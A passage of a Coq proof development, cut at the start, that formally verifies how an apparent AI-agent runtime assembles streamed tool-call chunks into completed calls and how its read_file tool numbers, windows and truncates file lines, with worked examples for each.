                      (inr {| ok := false; status := 404; statusText := "Not Found";
                              text := page |}, S e)) ∅ "http://example.org/x" 0)
     = inr (mkError "HTTP 404: Not Found" "" ∅).
Proof. split; now vm_compute. Qed.

End WebFetchWitness.

(** ** The streamed response: assembling tool calls *)

Section StreamFacts.
Import Data Streaming.

Lemma onToolCalls_app (a b : list ToolCallChunk) (calls : gmap nat Pending) :
  onToolCalls (a ++ b) calls
  = ((fst (onToolCalls a calls) ++ fst (onToolCalls b (snd (onToolCalls a calls))))%list,
     snd (onToolCalls b (snd (onToolCalls a calls)))).
Proof.
  revert calls. induction a as [|d a IH]; intros calls.
  - cbn. now destruct (onToolCalls b calls).
  - cbn [app onToolCalls]. destruct (onToolCall d calls) as [first calls1].
    rewrite IH. destruct (onToolCalls a calls1) as [later calls2]. cbn [fst snd].
    now rewrite app_assoc.
Qed.

Lemma early_onToolCall (d : ToolCallChunk) (calls : gmap nat Pending) :
  Forall early (fst (onToolCall d calls)).
Proof.
  unfold onToolCall. cbv zeta.
  destruct (nameOf d) as [name|]; [destruct (Js.truthyStr name)|];
    (destruct (argumentsOf d) as [fragment|]; [destruct (Js.truthyStr fragment)|]);
    cbn; repeat constructor.
Qed.

Lemma early_onToolCalls (ds : list ToolCallChunk) (calls : gmap nat Pending) :
  Forall early (fst (onToolCalls ds calls)).
Proof.
  revert calls. induction ds as [|d ds IH]; intros calls; [constructor|].
  cbn [onToolCalls]. pose proof (early_onToolCall d calls) as Hd.
  destruct (onToolCall d calls) as [first calls1]. specialize (IH calls1).
  destruct (onToolCalls ds calls1) as [later calls2]. cbn [fst] in *.
  now apply Forall_app.
Qed.

Lemma last_cons {A} (x : A) (l : list A) (d : A) : List.last (x :: l) d = List.last l x.
Proof.
  revert x d. induction l as [|y l IH]; intros x d; [reflexivity|].
  change (List.last (x :: y :: l) d) with (List.last (y :: l) d).
  now rewrite (IH y d), (IH y x).
Qed.

Lemma last_default_app {A} (a b : list A) (d : A) :
  List.last (a ++ b) d = List.last b (List.last a d).
Proof.
  revert d. induction a as [|x a IH]; intros d; [reflexivity|].
  cbn [app]. now rewrite !last_cons, IH.
Qed.

(** What the loop over the chunks leaves: the tool calls are those of the
    deltas in order, the usage and the finish reason are the last ones
    seen, and every event yielded is an early one. *)
Lemma onChunks_runs (cs : list Chunk) (st : State) :
  toolCalls (snd (onChunks cs st)) = snd (onToolCalls (deltasOf cs) (toolCalls st))
  /\ usage (snd (onChunks cs st)) = List.last (usagesOf cs) (usage st)
  /\ finishReason (snd (onChunks cs st)) = List.last (reasonsOf cs) (finishReason st)
  /\ Forall early (fst (onChunks cs st)).
Proof.
  revert st. induction cs as [|chunk cs IH]; intros st; [repeat split; constructor|].
  cbn [onChunks].
  destruct (onChunk chunk st) as [first st1] eqn:E1.
  destruct (IH st1) as (IHc & IHu & IHf & IHe).
  destruct (onChunks cs st1) as [later st2]. cbn [fst snd] in *.
  unfold deltasOf, usagesOf, reasonsOf in *. cbn [List.flat_map].
  rewrite onToolCalls_app, !last_default_app. cbn [snd].
  rewrite IHc, IHu, IHf. unfold onChunk in E1.
  destruct (choices chunk) as [[|choice more]|].
  1,3: injection E1 as <- <-; cbn [toolCalls usage finishReason app];
       repeat split; auto; now destruct (chunkUsage chunk).
  destruct (delta choice) as [d|].
  - destruct (tool_calls d) as [ds|]; cbn [Js.nullish].
    + pose proof (early_onToolCalls ds (toolCalls st)) as He.
      destruct (onToolCalls ds (toolCalls st)) as [calls calls1].
      injection E1 as <- <-. cbn [toolCalls usage finishReason fst snd] in *.
      repeat split.
      * now destruct (chunkUsage chunk).
      * now destruct (Js.truthy (finish_reason choice)).
      * apply Forall_app. split; [|exact IHe]. apply Forall_app. split; [|exact He].
        destruct (content d) as [text|]; [destruct (Js.truthyStr text)|];
          repeat constructor.
    + injection E1 as <- <-. cbn [toolCalls usage finishReason onToolCalls fst snd].
      repeat split.
      * now destruct (chunkUsage chunk).
      * now destruct (Js.truthy (finish_reason choice)).
      * apply Forall_app. split; [|exact IHe]. rewrite app_nil_r.
        destruct (content d) as [text|]; [destruct (Js.truthyStr text)|];
          repeat constructor.
  - injection E1 as <- <-. cbn [toolCalls usage finishReason onToolCalls fst snd app].
    repeat split.
    + now destruct (chunkUsage chunk).
    + now destruct (Js.truthy (finish_reason choice)).
    + exact IHe.
Qed.

Lemma truthyOnes_app (a b : list (option string)) :
  truthyOnes (a ++ b) = (truthyOnes a ++ truthyOnes b)%list.
Proof. unfold truthyOnes. now rewrite List.flat_map_app. Qed.

Lemma concat_snoc (l : list string) (x : string) :
  String.concat "" (l ++ [x]) = (String.concat "" l ++ x)%string.
Proof.
  induction l as [|y l IH]; [reflexivity|].
  cbn [app]. destruct l as [|z l].
  - reflexivity.
  - change (String.concat "" (y :: (z :: l) ++ [x]))
      with (y ++ "" ++ String.concat "" ((z :: l) ++ [x]))%string.
    rewrite IH.
    change (String.concat "" (y :: z :: l)) with (y ++ "" ++ String.concat "" (z :: l))%string.
    now rewrite !append_assoc.
Qed.

Lemma under_snoc (idx : nat) (ds : list ToolCallChunk) (d : ToolCallChunk) :
  under idx (ds ++ [d])
  = (under idx ds ++ if (indexOf d =? idx)%nat then [d] else [])%list.
Proof. unfold under. rewrite List.filter_app. cbn. now destruct (indexOf d =? idx)%nat. Qed.

(** One more delta under an index. *)
Lemma assembled_snoc (us : list ToolCallChunk) (d : ToolCallChunk) :
  assembled (us ++ [d])
  = {| pendingId := match us with
                    | [] => Js.nullish (tcId d) ""
                    | _ => pendingId (assembled us)
                    end;
       pendingName := match nameOf d with
                      | Some name => if Js.truthyStr name then name
                                     else pendingName (assembled us)
                      | None => pendingName (assembled us)
                      end;
       pendingArguments := pendingArguments (assembled us)
                           ++ match argumentsOf d with
                              | Some fragment => if Js.truthyStr fragment then fragment else ""
                              | None => ""
                              end |}.
Proof.
  unfold assembled. cbn [pendingId pendingName pendingArguments].
  rewrite !List.map_app, !truthyOnes_app, last_default_app. cbn [List.map].
  f_equal.
  - now destruct us.
  - unfold truthyOnes at 1. cbn [List.flat_map].
    destruct (nameOf d) as [name|]; [destruct (Js.truthyStr name)|]; reflexivity.
  - unfold truthyOnes at 2. cbn [List.flat_map].
    destruct (argumentsOf d) as [fragment|]; [destruct (Js.truthyStr fragment)|];
      cbn [app]; rewrite ?app_nil_r, ?concat_snoc, ?append_nil_r; reflexivity.
Qed.

(** The entries of [toolCalls] after the deltas: one per index seen, made
    of the deltas under that index. *)
Lemma onToolCalls_assembles (ds : list ToolCallChunk) (idx : nat) :
  snd (onToolCalls ds ∅) !! idx
  = match under idx ds with
    | [] => None
    | us => Some (assembled us)
    end.
Proof.
  induction ds as [|d ds IH] using rev_ind; [reflexivity|].
  rewrite onToolCalls_app, under_snoc. cbn [snd onToolCalls].
  destruct (onToolCall d (snd (onToolCalls ds ∅))) as [first calls1] eqn:E.
  cbn [snd]. unfold onToolCall in E. cbv zeta in E.
  destruct (Nat.eqb_spec (indexOf d) idx) as [<-|Ne].
  - rewrite IH in E. clear IH.
    assert (Ec : calls1 !! indexOf d
                 = Some (assembled (under (indexOf d) ds ++ [d]))).
    { rewrite assembled_snoc.
      destruct (under (indexOf d) ds) as [|u us] eqn:Eu;
        (destruct (nameOf d) as [name|] eqn:En; [destruct (Js.truthyStr name) eqn:Tn|]);
        (destruct (argumentsOf d) as [fragment|] eqn:Ea;
         [destruct (Js.truthyStr fragment) eqn:Ta|]);
        injection E as <- <-; rewrite lookup_insert_eq; f_equal;
        cbn [pendingId pendingName pendingArguments];
        rewrite ?append_nil_r; reflexivity. }
    rewrite Ec. now destruct (under (indexOf d) ds).
  - rewrite app_nil_r.
    assert (Ec : calls1 !! idx = snd (onToolCalls ds ∅) !! idx).
    { destruct (nameOf d) as [name|]; [destruct (Js.truthyStr name)|];
        (destruct (argumentsOf d) as [fragment|]; [destruct (Js.truthyStr fragment)|]);
        injection E as <- <-; now rewrite lookup_insert_ne. }
    now rewrite Ec, IH.
Qed.

#[local] Instance byIndex_trans : Transitive byIndex.
Proof. intros a b c. unfold byIndex. lia. Qed.

#[local] Instance byIndex_total : Total byIndex.
Proof. intros a b. unfold byIndex. lia. Qed.

Lemma strictly_sorted (l : list (nat * Pending)) :
  StronglySorted byIndex l -> NoDup (l.*1) ->
  StronglySorted (fun a b => fst a < fst b) l.
Proof.
  induction 1 as [|a l Hl IH Ha]; intros D; [constructor|].
  cbn in D. apply NoDup_cons in D as [Na D]. constructor; [now apply IH|].
  rewrite Forall_forall in Ha |- *. intros b Hb. specialize (Ha b Hb).
  unfold byIndex in Ha. assert (fst a <> fst b); [|lia].
  intros Eab. apply Na. rewrite Eab. apply list_elem_of_fmap. now exists b.
Qed.

(** [Object.entries(toolCalls)]: the entries of the map, by strictly
    ascending index. *)
Lemma entries_sorted (calls : gmap nat Pending) :
  StronglySorted (fun a b => fst a < fst b) (entries calls)
  /\ forall idx entry, (idx, entry) ∈ entries calls <-> calls !! idx = Some entry.
Proof.
  unfold entries. split.
  - apply strictly_sorted; [apply (StronglySorted_merge_sort byIndex)|].
    rewrite merge_sort_Permutation. apply NoDup_fst_map_to_list.
  - intros idx entry. rewrite merge_sort_Permutation. apply elem_of_map_to_list.
Qed.

Section WithParser.
Variable JSON_parse : string -> Js.Exc Js.Value.

(** X29: [streamResponse] assembles each tool call from its pieces.  While
    the chunks arrive it yields only text deltas and tool-call starts and
    deltas.  If the stream breaks off, nothing else is yielded and the
    generator throws: no tool call is completed.  If the stream ends, there
    follow one completed tool call per index seen in the deltas (an absent
    index counting as 0), in ascending order of index, each with the id of
    the first delta under its index, the last name given under it and the
    parsed concatenation of the argument fragments under it in order of
    arrival; and last, one message-complete event with the finish reason
    and the usage of the last chunk that carried one. *)
Theorem stream_assembles_each_tool_call (incoming : Incoming) :
  let ds := deltasOf (chunks incoming) in
  let result := streamResponse JSON_parse incoming in
  snd result = failure incoming
  /\ exists arriving late,
       fst result = (arriving ++ late)%list
       /\ Forall early arriving
       /\ match failure incoming with
          | Some _ => late = []
          | None =>
              exists calls,
                late = (List.map (completed JSON_parse) calls
                        ++ [MessageComplete
                              (List.last (reasonsOf (chunks incoming)) None)
                              (List.last (usagesOf (chunks incoming)) None)])%list
                /\ StronglySorted (fun a b => fst a < fst b) calls
                /\ forall idx entry,
                     (idx, entry) ∈ calls
                     <-> under idx ds <> [] /\ entry = assembled (under idx ds)
          end.
Proof.
  cbv zeta. unfold streamResponse.
  destruct (onChunks_runs (chunks incoming) startState) as (Ec & Eu & Ef & He).
  destruct (onChunks (chunks incoming) startState) as [arriving st]. cbn [fst snd] in *.
  destruct (failure incoming) as [error|]; cbn [fst snd].
  - split; [reflexivity|]. exists arriving, []. now rewrite app_nil_r.
  - split; [reflexivity|]. eexists arriving, _. split; [reflexivity|]. split; [exact He|].
    exists (entries (toolCalls st)). rewrite Eu, Ef. split; [reflexivity|].
    destruct (entries_sorted (toolCalls st)) as [Hs Hm]. split; [exact Hs|].
    intros idx entry. rewrite Hm, Ec. cbn [toolCalls startState].
    rewrite onToolCalls_assembles.
    destruct (under idx (deltasOf (chunks incoming))) as [|u us].
    + split; [discriminate|]. now intros [? _].
    + split; [intros [= <-]; now split|]. now intros [_ ->].
Qed.

End WithParser.

End StreamFacts.

Section StreamExamples.
Import Data Streaming.

(** Two tool calls whose fragments arrive interleaved, the second index
    first. *)
Lemma stream_examples :
  let piece (idx : nat) (id : option string) (name args : option string) : Chunk :=
    {| chunkUsage := None;
       choices := Some [ {| delta := Some {| content := None;
                                            tool_calls := Some [ {| index := Some idx;
                                                                    tcId := id;
                                                                    tcFunction :=
                                                                      Some {| fnDeltaName := name;
                                                                              fnDeltaArguments := args |} |} ] |};
                            finish_reason := None |} ] |} in
  let parse (s : string) : Js.Exc Js.Value := inl "SyntaxError" in
  fst (streamResponse parse
         {| chunks := [ piece 1 (Some "call_b") (Some "grep") None;
                        piece 0 (Some "call_a") (Some "read_file") (Some "{'path':");
                        piece 1 None None (Some "{'pattern':'x'}");
                        piece 0 None None (Some "'a.txt'}") ];
            failure := None |})
  = [ ToolCallStart "call_b" "grep";
      ToolCallStart "call_a" "read_file";
      ToolCallDelta "call_a" (Some "read_file") "{'path':";
      ToolCallDelta "call_b" None "{'pattern':'x'}";
      ToolCallDelta "call_a" None "'a.txt'}";
      ToolCallComplete "call_a" "read_file"
        (Js.VObj {[ "raw_arguments" := Js.VStr "{'path':'a.txt'}" ]});
      ToolCallComplete "call_b" "grep"
        (Js.VObj {[ "raw_arguments" := Js.VStr "{'pattern':'x'}" ]});
      MessageComplete None None ].
Proof. cbv zeta. now vm_compute. Qed.

End StreamExamples.

(** ** The read_file tool: the window shown *)

Section WindowFacts.
Import ToolBase Data Eff Registry Context Text ReadFile.

Lemma chompAllButLast_length (pieces : list string) :
  List.length (Js.chompAllButLast pieces) = List.length pieces.
Proof.
  induction pieces as [|piece [|next rest] IH]; [reflexivity|reflexivity|].
  change (Js.chompAllButLast (piece :: next :: rest))
    with (Js.chomp piece :: Js.chompAllButLast (next :: rest)).
  cbn [List.length] in *. now rewrite IH.
Qed.

(** A text has at least one line. *)
Lemma splitLines_nonempty (content : string) : 1 <= List.length (Js.splitLines content).
Proof.
  unfold Js.splitLines. rewrite chompAllButLast_length.
  pose proof (splitChar_nonempty Js.lf content).
  destruct (Js.splitChar Js.lf content); [contradiction|cbn; lia].
Qed.

(** The lines of a window with their positions in the whole. *)
Lemma window_lines {A} (f : nat -> string -> A) (lines : list string) (count : nat) :
  forall first start,
    first + count <= List.length lines ->
    List.map (fun entry => f (fst entry) (snd entry))
      (List.combine (List.seq start count) (List.firstn count (List.skipn first lines)))
    = List.map (fun j => f (start + j) (List.nth (first + j) lines ""))
        (List.seq 0 count).
Proof.
  induction count as [|count IH]; intros first start L; [reflexivity|].
  assert (Es : List.skipn first lines
               = List.nth first lines "" :: List.skipn (S first) lines).
  { clear IH. revert first L. induction lines as [|x lines IHl]; intros first L.
    - cbn in L. lia.
    - destruct first as [|first]; [reflexivity|]. cbn [List.skipn List.nth].
      apply IHl. cbn in L. lia. }
  rewrite Es. cbn [List.firstn List.seq List.combine List.map fst snd].
  rewrite !Nat.add_0_r. f_equal.
  rewrite (IH (S first) (S start) ltac:(lia)), <- List.seq_shift, List.map_map.
  apply List.map_ext. intros j. now rewrite !Nat.add_succ_r.
Qed.

(** The window of [read_file] for an offset and a limit that are at least
    1 when given: the lines numbered [first + 1] to [last]. *)
Lemma formatted_window (params : ReadParams) (lines : list string) :
  (forall o, offset params = Some o -> (1 <= o)%Z) ->
  (forall l, limit params = Some l -> (1 <= l)%Z) ->
  let total := List.length lines in
  let first := Z.to_nat (Js.nullish (offset params) 1%Z - 1) in
  let last := match limit params with
              | Some l => Nat.min (first + Z.to_nat l) total
              | None => total
              end in
  offsetOf params = Z.of_nat first
  /\ endOf params (Z.of_nat total) = Z.of_nat last
  /\ formatted params lines
     = List.map (fun j => Js.padStart 6 " " (Js.ofZ (Z.of_nat (first + j + 1))) ++ "|"
                          ++ List.nth (first + j) lines "")
         (List.seq 0 (last - first)).
Proof.
  intros Ho Hl total first last.
  assert (Eo : offsetOf params = Z.of_nat first).
  { unfold offsetOf, first. destruct (offset params) as [o|]; cbn [Js.nullish].
    - specialize (Ho o eq_refl). lia.
    - reflexivity. }
  assert (Ee : endOf params (Z.of_nat total) = Z.of_nat last).
  { unfold endOf, last. rewrite Eo. destruct (limit params) as [l|]; [|reflexivity].
    specialize (Hl l eq_refl). destruct (Z.eqb_spec l 0); lia. }
  split; [exact Eo|]. split; [exact Ee|].
  unfold formatted. cbv zeta. fold total. rewrite Ee, Eo. unfold Js.slice. fold total.
  assert (Lt : last <= total).
  { unfold last. destruct (limit params); lia. }
  assert (R1 : Js.relativeIndex total (Z.of_nat first) = Nat.min first total).
  { unfold Js.relativeIndex. destruct (Z.ltb_spec (Z.of_nat first) 0); lia. }
  assert (R2 : Js.relativeIndex total (Z.of_nat last) = last).
  { unfold Js.relativeIndex. destruct (Z.ltb_spec (Z.of_nat last) 0); lia. }
  rewrite R1, R2.
  destruct (Nat.le_gt_cases total first) as [Ge|Lf].
  - replace (last - Nat.min first total) with 0 by lia.
    replace (last - first) with 0 by lia. reflexivity.
  - replace (Nat.min first total) with first by lia.
    assert (El : List.length (List.firstn (last - first) (List.skipn first lines))
                 = last - first).
    { rewrite List.length_firstn, List.length_skipn. fold total. lia. }
    rewrite El.
    rewrite (window_lines
               (fun i line => Js.padStart 6 " " (Js.ofZ (Z.of_nat i + Z.of_nat first + 1))
                              ++ "|" ++ line)
               lines (last - first) first 0) by (fold total; lia).
    apply List.map_ext. intros j. cbn [Nat.add].
    now replace (Z.of_nat j + Z.of_nat first + 1)%Z with (Z.of_nat (first + j + 1)) by lia.
Qed.

End WindowFacts.

Section ReadFileClaims.
Import ToolBase Data Eff Registry Context Text ReadFile.
Context `{Env}.
Variable modelName : string.
Variable existsSync : string -> Ext -> bool.
Variable statSync : string -> M Ext Stat.
Variable readBytes : string -> M Ext string.
Variable readFileSync : string -> string -> M Ext string.

(** X30: read_file shows the lines asked for, under their numbers in the
    file.  For a text file within the size limit that can be read, with an
    offset and a limit that are at least 1 when given, the result is a
    success whose lines are the lines [offset] to [offset + limit - 1] of
    the file (to the last line when there are fewer, or no limit), each
    behind its own line number padded to six characters and a bar.  A file
    has at least one line, so the 'File is empty.' answer is never given.
    The output is headed 'Showing lines ...' exactly when the window is not
    the whole file, and it is cut (and flagged as truncated) exactly when
    the numbered lines count more than 25000 tokens. *)
Theorem read_file_shows_the_lines_asked_for (params : ReadParams)
    (cwd target content : string) (stat : Stat) (e e1 e2 e3 : Ext) :
  resolvePath cwd (Some (Js.VStr (path params))) = inr target ->
  existsSync target e = true ->
  statSync target e = (inr stat, e1) ->
  isFile stat = true ->
  (size stat <= MAX_FILE_SIZE)%Z ->
  isBinaryFile readBytes target e1 = (inr false, e2) ->
  readFileSync target "utf-8" e2 = (inr content, e3) ->
  (forall o, offset params = Some o -> (1 <= o)%Z) ->
  (forall l, limit params = Some l -> (1 <= l)%Z) ->
  let lines := Js.splitLines content in
  let total := List.length lines in
  let first := Z.to_nat (Js.nullish (offset params) 1%Z - 1) in
  let last := match limit params with
              | Some l => Nat.min (first + Z.to_nat l) total
              | None => total
              end in
  let numbered :=
    List.map (fun j => Js.padStart 6 " " (Js.ofZ (Z.of_nat (first + j + 1))) ++ "|"
                       ++ List.nth (first + j) lines "")
      (List.seq 0 (last - first)) in
  let heading :=
    if (0 <? first)%nat || (last <? total)%nat then
      "Showing lines " ++ Js.ofZ (Z.of_nat first + 1) ++ "-" ++ Js.ofZ (Z.of_nat last)
      ++ " of " ++ Js.ofZ (Z.of_nat total) ++ Js.nl ++ Js.nl
    else "" in
  exists result,
    execute modelName existsSync statSync readBytes readFileSync params cwd e
    = (inr result, e3)
    /\ success result = true
    /\ 1 <= total
    /\ metadata result !! "total_lines" = Some (Js.VNum (Z.of_nat total))
    /\ (truncated result = true
        <-> (MAX_OUTPUT_TOKENS < Z.of_N (countText (Js.join Js.nl numbered) "gpt-4"))%Z)
    /\ (truncated result = false ->
        output result = (heading ++ Js.join Js.nl numbered)%string)
    /\ (truncated result = true ->
        output result
        = (heading
           ++ truncateText (Js.join Js.nl numbered) modelName MAX_OUTPUT_TOKENS
                (Js.nl ++ "... [truncated " ++ Js.ofZ (Z.of_nat total) ++ " total lines]")
                true)%string).
Proof.
  intros Hr Hx Hs Hf Hz Hb Hread Ho Hl lines total first last numbered heading.
  destruct (formatted_window params lines Ho Hl) as (Eo & Ee & Ef).
  fold total first last in Eo, Ee, Ef. fold numbered in Ef.
  pose proof (splitLines_nonempty content) as Hn. fold lines total in Hn.
  exists (render modelName params target content).
  split.
  { unfold execute. rewrite Hr. unfold bind at 1, liftExc. unfold bind at 1, gets.
    rewrite Hx. cbn [negb]. rewrite (bind_returns _ _ _ _ _ Hs), Hf. cbn [negb].
    destruct (Z.ltb_spec MAX_FILE_SIZE (size stat)) as [|_]; [lia|].
    rewrite (bind_returns _ _ _ _ _ Hb).
    unfold tryCatch, bind. now rewrite Hread. }
  unfold render. fold lines total. cbv zeta.
  destruct (Z.eqb_spec (Z.of_nat total) 0) as [|_]; [lia|].
  cbn [success metadata truncated output]. rewrite Eo, Ee, Ef.
  assert (Eh : (if (0 <? Z.of_nat first)%Z || (Z.of_nat last <? Z.of_nat total)%Z
                then true else false)
               = (if (0 <? first)%nat || (last <? total)%nat then true else false)).
  { destruct (Z.ltb_spec 0 (Z.of_nat first)), (Nat.ltb_spec 0 first); try lia;
      destruct (Z.ltb_spec (Z.of_nat last) (Z.of_nat total)), (Nat.ltb_spec last total);
      try lia; reflexivity. }
  split; [reflexivity|]. split; [exact Hn|]. split; [reflexivity|].
  split; [apply Z.ltb_lt|].
  unfold heading.
  destruct ((0 <? Z.of_nat first)%Z || (Z.of_nat last <? Z.of_nat total)%Z),
    ((0 <? first)%nat || (last <? total)%nat); try discriminate Eh.
  - split; intros ->; now rewrite <- ?append_assoc.
  - split; intros ->; reflexivity.
Qed.

End ReadFileClaims.

Section ReadFileWitness.
#[local] Existing Instance Examples.demoEnv.
Import ToolBase Data Eff Registry Context Text ReadFile Examples ReadFileExamples.

(** Lines 2 and 3 of a file of four lines. *)
Lemma read_file_shows_the_lines_asked_for_witness :
  exists result,
    demoRead fourLines {| path := "notes.txt"; offset := Some 2%Z; limit := Some 2%Z |} 0
    = (inr result, 1)
    /\ output result
       = ("Showing lines 2-3 of 4" ++ Js.nl ++ Js.nl
          ++ "     2|beta" ++ Js.nl ++ "     3|gamma")%string.
Proof.
  destruct (@read_file_shows_the_lines_asked_for demoEnv "gpt-4" allThere smallFile
              (bytesOf fourLines) (textOf fourLines)
              {| path := "notes.txt"; offset := Some 2%Z; limit := Some 2%Z |}
              "/home/user/project" "/home/user/project/notes.txt" fourLines
              {| isFile := true; size := 22 |} 0 0 0 1
              eq_refl eq_refl eq_refl eq_refl ltac:(now vm_compute) eq_refl eq_refl
              ltac:(intros o [= <-]; lia) ltac:(intros l [= <-]; lia))
    as (result & Ex & _ & _ & _ & Ht & Hout & _).
  exists result. split; [exact Ex|].
  rewrite Hout; [now vm_compute|].
  destruct (truncated result); [|reflexivity].
  apply proj1 in Ht. specialize (Ht eq_refl). vm_compute in Ht. discriminate.
Defined.

(** An empty file has one line; an offset beyond the end shows nothing
    under a heading; a binary file and a file that is too large. *)
Lemma read_file_examples :
  output (render "gpt-4" {| path := "empty.txt"; offset := None; limit := None |}
            "/home/user/project/empty.txt" "")
  = "     1|"
  /\ output (render "gpt-4" {| path := "notes.txt"; offset := Some 11%Z; limit := None |}
               "/home/user/project/notes.txt" fourLines)
     = ("Showing lines 11-4 of 4" ++ Js.nl ++ Js.nl)%string
  /\ fst (@execute demoEnv "gpt-4" allThere
            (fun _ e => (inr {| isFile := true; size := 11534336 |}, e))
            (bytesOf fourLines) (textOf fourLines)
            {| path := "big.log"; offset := None; limit := None |} "/home/user/project" 0)
     = inr (mkError "File too large (11.0MB). Maximum is 10MB." "" ∅)
  /\ fst (@execute demoEnv "gpt-4" allThere smallFile
            (bytesOf (String (ascii_of_nat 0) "ELF")) (textOf fourLines)
            {| path := "bin/tool"; offset := None; limit := None |} "/home/user/project" 0)
     = inr (mkError "Cannot read binary file: tool (22 bytes) This tool only reads text files."
              "" ∅).
Proof. repeat split; now vm_compute. Qed.

End ReadFileWitness.
